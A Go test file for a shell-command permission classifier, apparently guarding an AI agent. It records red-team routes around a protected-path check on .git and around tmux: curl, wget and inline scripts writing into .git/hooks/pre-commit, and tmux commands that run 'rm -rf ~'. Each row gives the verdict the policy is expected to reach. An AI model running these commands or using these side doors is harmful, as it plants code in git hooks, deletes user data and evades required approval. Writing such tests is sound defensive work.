package shellpolicy

import "testing"

// TestReaderWritesAndTmuxCommands holds the red team's side doors around
// the protected-path check (a write to the repository's .git needs
// explicit approval, as a redirect to it does) and around tmux: files
// that readers write through their own options or operands (sort -o, uniq
// and xxd's second operand, tree -o, sed -i, file -C's NAME.mgc), values
// attached to curl's and wget's options (-oFILE, -OFILE, -PDIR) and
// wgetrc commands (-e, --execute=), files inline code writes (open with a
// writing mode, perl open(F, ">…"), awk print > "…", fs.writeFileSync,
// Path(…).write_text), and the shell commands tmux runs through tmux
// commands given as arguments (if-shell, confirm-before, command-prompt,
// bind-key, set-hook, display-menu, run -C) and through #(…) in formats.
// The benign rows keep the verdicts these commands had before.
func TestReaderWritesAndTmuxCommands(t *testing.T) {
	t.Parallel()
	const protected = "changes a protected path"
	const rmHome = "recursively deletes"
	checkClasses(t, []classCase{
		// Readers' writing options and operands.
		{"sort -o .git/hooks/pre-commit x", Explicit, protected},
		{"sort --output=.git/hooks/pre-commit x", Explicit, protected},
		{"sort --output .git/hooks/pre-commit x", Explicit, protected},
		{"sort --out=.git/config x", Explicit, protected},
		{"sort -o.git/hooks/pre-commit x", Explicit, protected},
		{"sort -ro .git/hooks/pre-commit x", Explicit, protected},
		{"sort -k1 -o .git/config x", Explicit, protected},
		{"uniq x .git/config", Explicit, protected},
		{"uniq -f 1 x .git/config", Explicit, protected},
		{"tree -o .git/config", Explicit, protected},
		{"tree -o.git/config", Explicit, protected},
		{"xxd x .git/hooks/pre-commit", Explicit, protected},
		{"xxd -r x .git/hooks/pre-commit", Explicit, protected},
		{"xxd -c 8 x .git/config", Explicit, protected},
		{"sed -i s/a/b/ .git/config", Explicit, protected},
		{"sed -i.bak -e s/a/b/ .git/config", Explicit, protected},
		{"sed -ni s/a/b/p .git/config", Explicit, protected},
		{"sed --in-place s/a/b/ .git/config", Explicit, protected},
		{"cd .git/hooks && file -C -m pre-commit", Explicit, protected}, // writes ./pre-commit.mgc
		{"sort -o out.txt in.txt", Ordinary, ""},
		{"sort -o /dev/null f", Ordinary, ""},
		{"sort f", ReadOnly, ""},
		{"sort -t, -k2 f", ReadOnly, ""},
		{"uniq x", ReadOnly, ""},
		{"uniq -c x", ReadOnly, ""},
		{"uniq x -", Ordinary, ""},
		{"xxd -c 8 x", Ordinary, ""},
		{"sed -i s/a/b/ a.txt", Ordinary, ""},
		{"sed -n 1p .git/config", ReadOnly, ""},
		{"file -C -m .git/config", Ordinary, ""}, // writes ./config.mgc, in the workspace

		// curl's and wget's attached values and wgetrc commands.
		{"curl -o.git/hooks/pre-commit http://x", Explicit, protected},
		{"curl -sSLo.git/hooks/pre-commit http://x", Explicit, protected},
		{"curl -o .git/hooks/pre-commit http://x", Explicit, protected},
		{"curl --output .git/hooks/pre-commit http://x", Explicit, protected},
		{"wget --execute=output_document=.git/config http://x", Explicit, protected},
		{"wget --exec=output_document=.git/config http://x", Explicit, protected},
		{"wget -e output_document=.git/config http://x", Explicit, protected},
		{"wget -e 'output_document = .git/config' http://x", Explicit, protected},
		{"wget -eoutput_document=.git/config http://x", Explicit, protected},
		{"wget -O.git/config http://x", Explicit, protected},
		{"wget -P.git/hooks http://x/pre-commit", Explicit, protected},
		{"wget --output-document=.git/config http://x", Explicit, protected},
		{"curl -o out.html http://x", Ordinary, ""},
		{"curl -sSLo out.html http://x", Ordinary, ""},
		{"curl -H 'X: y' http://x", Ordinary, ""},
		{"wget -O out.html http://x", Ordinary, ""},

		// Inline code that writes a protected path; reads stay reads.
		{`python3 -c 'open(".git/hooks/pre-commit","w").write("x")'`, Explicit, protected},
		{`python3 -c 'open(".git/config", "a")'`, Explicit, protected},
		{`python3 -c 'from pathlib import Path; Path(".git/hooks/pre-commit").write_text("x")'`, Explicit, protected},
		{`perl -e 'open(F,">.git/hooks/pre-commit")'`, Explicit, protected},
		{`perl -e 'open(my $f, ">>", ".git/config")'`, Explicit, protected},
		{`awk 'BEGIN{print "x" > ".git/hooks/pre-commit"}'`, Explicit, protected},
		{`node -e 'fs.writeFileSync(".git/config", "x")'`, Explicit, protected},
		{`node -e 'fs.appendFileSync(".git/config", "x")'`, Explicit, protected},
		{`ruby -e 'File.write(".git/config", "x")'`, Explicit, protected},
		{`python3 -c 'open("a.txt").read()'`, Ordinary, ""},
		{`python3 -c 'open(".git/config").read()'`, Ordinary, ""},
		{`python3 -c 'open(".git/config", "rb").read()'`, Ordinary, ""},
		{`python3 -c 'open("out.txt", "w").write("x")'`, Ordinary, ""},
		{`perl -e 'open(F, "<.git/config")'`, Ordinary, ""},
		{`awk '{print > "out.txt"}' f`, Ordinary, ""},
		{`awk '$1 > 3' f`, Ordinary, ""},
		{`node -e 'fs.readFileSync(".git/config")'`, Ordinary, ""},

		// tmux commands that run shell text.
		{`tmux if 'true' 'run "rm -rf ~"'`, Blocked, rmHome},
		{`tmux if-shell 'true' 'display hi' 'run "rm -rf ~"'`, Blocked, rmHome},
		{`tmux display -p '#(rm -rf ~)'`, Blocked, rmHome},
		{`tmux set status-right '#(rm -rf ~)'`, Blocked, rmHome},
		{`tmux confirm-before 'run "rm -rf ~"'`, Blocked, rmHome},
		{`tmux command-prompt -I x 'run "rm -rf ~"'`, Blocked, rmHome},
		{`tmux run-shell 'rm -rf ~'`, Blocked, rmHome},
		{`tmux run-sh 'rm -rf ~'`, Blocked, rmHome},
		{`tmux run -C 'run "rm -rf ~"'`, Blocked, rmHome},
		{`tmux new -d 'rm -rf ~'`, Blocked, rmHome},
		{`tmux bind x run 'rm -rf ~'`, Blocked, rmHome},
		{`tmux set-hook -g after-new-window 'run "rm -rf ~"'`, Blocked, rmHome},
		{`tmux display-menu a b 'run "rm -rf ~"'`, Blocked, rmHome},
		{`tmux confirm-before "$x"`, Explicit, "cannot see"},
		{"tmux ls", Ordinary, ""},
		{"tmux attach -t 0", Ordinary, ""},
		{`tmux display -p '#{pane_id}'`, Ordinary, ""},
		{`tmux display -p '##(rm -rf ~)'`, Ordinary, ""},
		{`tmux display -p '#(echo hi)'`, Ordinary, ""},
		{`tmux list-windows -F '#{window_name}'`, Ordinary, ""},
		{`tmux if 'true' 'display hi'`, Ordinary, ""},
		{`tmux if -F '#{pane_active}' 'display hi'`, Ordinary, ""},
		{`tmux confirm-before -p 'kill?' kill-server`, Ordinary, ""},
		{`tmux menu '' a b 'display hi'`, Ordinary, ""},
	})
}
